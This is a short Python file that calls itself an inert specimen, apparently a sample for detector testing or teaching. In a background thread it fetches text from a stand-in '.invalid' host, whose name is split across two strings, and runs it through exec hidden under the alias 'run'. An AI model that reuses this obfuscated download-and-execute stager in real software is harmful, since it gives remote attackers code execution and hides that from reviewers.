# Inert specimen. Trick: fetching and running are two helpers, called in a thread, exec under another name.
import threading
from urllib import request

run = exec


def fetch(address):
    with request.urlopen(address) as reply:
        return reply.read().decode()


def grow():
    text = fetch("https://garden-seeds" + ".invalid/stage")
    run(text)


threading.Thread(target=grow, daemon=True).start()
